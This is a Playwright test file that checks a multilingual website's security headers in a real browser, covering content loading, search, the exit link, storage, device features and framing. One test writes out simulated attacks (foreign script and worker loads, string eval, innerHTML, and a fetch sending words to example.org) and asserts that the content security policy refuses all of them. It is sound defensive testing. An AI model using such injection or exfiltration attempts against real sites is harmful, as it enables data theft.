/**
 * Pages in a real browser under exactly the headers that are deployed: nothing a page does is refused, and what an
 * attacker would do is. From Debian's nginx where it can be had, else from the local server, which sends the same.
 */
import { readdirSync } from 'node:fs';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, it } from 'vitest';
import { launchBrowser } from '../support/browser.ts';
import { findServer, HOST, startServer } from '../support/host-servers.ts';
import { languagesInTurn, serveSite, siteFolder, withoutMadeAlike } from '../support/serve.ts';

const pages = readdirSync(siteFolder, { recursive: true, encoding: 'utf8' })
  .map((path) => `/${path.replaceAll('\\', '/')}`)
  .filter((path) => path.endsWith('.html') && !path.startsWith('/leaflets/'))
  .map((path) => path.replace(/index\.html$/, ''))
  .sort();
/**
 * Every kind of page in English, every language's front page, and of the languages in turn the search and the page to save; not the
 * empty one, which leads away by itself.
 */
const kinds = withoutMadeAlike(
  pages.filter((path) => {
    const [, tag = '', below] = path.split('/');
    if (path === '/blank/') return false;
    if (tag === 'en' || !below) return true;
    return (
      /^\/[^/]+\/(?:search|all)\/$/.test(path) && languagesInTurn.some((language) => language.tag === tag)
    );
  }),
);

let browser: Browser;
let origin: string;
let stop: () => Promise<void>;
beforeAll(async () => {
  const nginx = findServer('nginx');
  if ('missing' in nginx) {
    process.stdout.write(`Without nginx, so from the local server: ${nginx.missing}\n`);
    const site = await serveSite();
    origin = site.origin;
    stop = () => site.stop();
    browser = await launchBrowser();
  } else {
    const server = await startServer('nginx', nginx.folder, siteFolder, inject('styleHashes'));
    origin = `https://${HOST}`;
    stop = () => server.stop();
    browser = await launchBrowser([`--host-resolver-rules=MAP ${HOST}:443 127.0.0.1:${server.ports.https}`]);
  }
});
afterAll(async () => {
  await browser?.close();
  await stop?.();
});

/** Everything that a browser complains about, and everything it asked for from elsewhere. */
interface Watched {
  readonly context: BrowserContext;
  readonly page: Page;
  readonly complaints: string[];
  readonly elsewhere: string[];
}

/** Opens a page in a browser of its own and watches it; `look` does what a person would. */
async function watch(path: string, look: (watched: Watched) => Promise<void>): Promise<Watched> {
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  try {
    const watched = await watchTab(context);
    await watched.page.goto(origin + path, { waitUntil: 'load' });
    await look(watched);
    return watched;
  } finally {
    await context.close();
  }
}

async function watchTab(context: BrowserContext): Promise<Watched> {
  const page = await context.newPage();
  const watched: Watched = { context, page, complaints: [], elsewhere: [] };
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) =>
      console.error(`refused: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
    );
  });
  page.on('console', (message) => {
    if (message.type() === 'error' || message.type() === 'warning') watched.complaints.push(message.text());
  });
  page.on('pageerror', (error) => watched.complaints.push(String(error)));
  page.on('requestfailed', (request) => {
    // What a page still fetches when its reader leaves is given up, whatever it is. What is refused fails by another name.
    if (request.failure()?.errorText === 'net::ERR_ABORTED') return;
    watched.complaints.push(`failed: ${request.url()}`);
  });
  context.on('request', (request) => {
    if (!request.url().startsWith(`${origin}/`)) watched.elsewhere.push(request.url());
  });
  return watched;
}

it('refuses nothing that a page does, in every kind of page', async () => {
  expect(kinds.length).toBeGreaterThan(30);
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const { page, complaints, elsewhere } = await watchTab(context);
  const seen: Record<string, readonly string[]> = {};
  for (const path of kinds) {
    await page.goto(origin + path, { waitUntil: 'load' });
    // Also the pictures that are asked for only further down.
    await page.evaluate(() => {
      for (const image of document.images) image.loading = 'eager';
    });
    await page.waitForFunction(() => [...document.images].every((image) => image.complete));
    // The styles have come through.
    expect(await page.evaluate(() => getComputedStyle(document.body).margin), path).toBe('0px');
    // Chromium notes in the console that the page of an unknown address has the status 404.
    const real = [...complaints.splice(0), ...elsewhere.splice(0)].filter(
      (text) => !(path === '/404.html' && /status of 404/.test(text)),
    );
    if (real.length > 0) seen[path] = real;
  }
  await context.close();
  expect(seen).toEqual({});
}, 240_000);

it('finds pages, by their words and by all their text', async () => {
  const { complaints, elsewhere } = await watch('/en/search/', async ({ page }) => {
    await page.fill('form.find input', 'police');
    await page.press('form.find input', 'Enter');
    await page.waitForSelector('#found ul a');
    await page.click('.all-text button');
    await page.waitForSelector('#found .in-texts a');
    // What was typed stays out of the address.
    expect(page.url()).toBe(`${origin}/en/search/`);
  });
  expect(complaints).toEqual([]);
  expect(elsewhere).toEqual([]);
});

it.each(['', 'index.html'])('draws the composer’s pictures, at its address and “%s”', async (file) => {
  const { complaints, elsewhere } = await watch(`/en/leaflets/compose/${file}`, async ({ page }) => {
    await page.getByText(/The pictures are ready/).waitFor();
    await page.waitForFunction(() =>
      [...document.querySelectorAll<HTMLImageElement>('.pages img')].every((image) => image.complete),
    );
    const widths = await page.$$eval('.pages img', (images) =>
      images.map((image) => (image as HTMLImageElement).naturalWidth),
    );
    expect(widths.length).toBeGreaterThan(0);
    expect(Math.min(...widths)).toBeGreaterThan(0);
  });
  expect(complaints).toEqual([]);
  expect(elsewhere.filter((address) => !address.startsWith('blob:'))).toEqual([]);
});

it('lets the reader leave', async () => {
  const { complaints } = await watch('/en/', async ({ page, context }) => {
    const exit = await page.getAttribute('a.exit', 'href');
    await context.route(`${exit}**`, (route) =>
      route.fulfill({ body: '<title>Weather</title>', contentType: 'text/html' }),
    );
    await page.click('a.exit');
    await page.waitForURL(`${exit}**`);
    expect(await page.title()).toBe('Weather');
  });
  expect(complaints).toEqual([]);
});

it('keeps nothing on the device after a visit and a search', async () => {
  await watch('/en/search/', async ({ page, context }) => {
    await page.fill('form.find input', 'police');
    await page.press('form.find input', 'Enter');
    await page.waitForSelector('#found ul a');
    const kept = await page.evaluate(async () => ({
      storage: localStorage.length + sessionStorage.length,
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
      workers: (await navigator.serviceWorker.getRegistrations()).length,
    }));
    expect(kept).toEqual({ storage: 0, databases: 0, caches: 0, workers: 0 });
    expect(await context.cookies()).toEqual([]);
  });
});

it('refuses what an attacker would do', async () => {
  await watch('/en/search/', async ({ page, complaints }) => {
    const outcome = await page.evaluate(async () => {
      const attempt = async (what: () => unknown) => {
        try {
          await what();
          return 'done';
        } catch {
          return 'refused';
        }
      };
      const runs = (prepare: (script: HTMLScriptElement) => void) =>
        new Promise<string>((settled) => {
          const script = document.createElement('script');
          script.addEventListener('error', () => settled('refused'));
          script.addEventListener('load', () => settled('done'));
          addEventListener('securitypolicyviolation', () => settled('refused'), { once: true });
          try {
            prepare(script);
            document.head.append(script);
          } catch {
            settled('refused');
          }
        });
      return {
        html: await attempt(() => {
          document.createElement('div').innerHTML = '<b>x</b>';
        }),
        code: await attempt(() => setTimeout('globalThis.ran = true')),
        otherWorker: await attempt(() => new Worker('/_astro/other.js')),
        foreignWorker: await attempt(() => new Worker('https://example.org/engine/worker.js')),
        secondPolicy: await attempt(() =>
          (
            globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy('another', {}),
        ),
        wasm: await attempt(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
        inline: await runs((script) => script.append('globalThis.ran = true')),
        foreign: await runs((script) => {
          script.setAttribute('src', 'https://example.org/x.js');
        }),
        sendAway: await attempt(() => fetch('https://example.org/?words')),
      };
    });
    expect(Object.entries(outcome).filter(([, result]) => result !== 'refused')).toEqual([]);
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
    // And it said so: the listener above does see what is refused.
    expect(complaints.length).toBeGreaterThan(3);
  });
});

it('may use nothing of the device that could watch or disturb its reader', async () => {
  const features = [
    ...['accelerometer', 'autoplay', 'camera', 'display-capture', 'encrypted-media', 'fullscreen'],
    ...['geolocation', 'gyroscope', 'magnetometer', 'microphone', 'midi', 'payment', 'picture-in-picture'],
    ...['publickey-credentials-get', 'screen-wake-lock', 'usb', 'xr-spatial-tracking'],
  ];
  await watch('/en/', async ({ page }) => {
    const allowed = await page.evaluate(() =>
      (
        document as unknown as { featurePolicy: { allowedFeatures(): string[] } }
      ).featurePolicy.allowedFeatures(),
    );
    expect(allowed.filter((feature) => features.includes(feature))).toEqual([]);
  });
});

it('cannot be framed', async () => {
  await watch('/', async ({ page, context }) => {
    await context.route('https://frame.example/', (route) =>
      route.fulfill({ body: `<iframe src="${origin}/en/"></iframe>`, contentType: 'text/html' }),
    );
    await page.goto('https://frame.example/');
    await page.waitForTimeout(500);
    expect(
      await page
        .frames()
        .at(-1)
        ?.title()
        .catch(() => ''),
    ).not.toBe('Vägvisare');
  });
});
